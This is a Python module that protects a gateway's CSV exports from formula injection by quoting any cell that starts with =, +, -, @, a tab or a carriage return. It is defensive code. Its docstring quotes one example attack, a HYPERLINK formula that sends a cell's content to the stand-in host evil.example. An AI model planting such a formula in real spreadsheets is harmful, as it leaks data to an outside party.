"""CSV files the gateway writes are opened in spreadsheets: no cell may be read as a formula.

A parent's reply such as ``=HYPERLINK("http://evil.example/?x="&A2,"click")`` exported as is becomes a live
formula in Excel or LibreOffice (CSV injection). OWASP's rule, applied to every cell of every CSV the gateway
writes: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
front, which spreadsheets show as text. Use :func:`safe_csv_writer` instead of ``csv.writer``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise_cell(value: object) -> str:
    """``value`` as the text of one CSV cell, with a leading ``'`` if a spreadsheet would read it as a formula
    (``None`` is an empty cell)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (see :func:`neutralise_cell`)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
    """A CSV writer on ``out`` (same options as ``csv.writer``) that never writes a formula."""
    return SafeCsvWriter(out, **options)
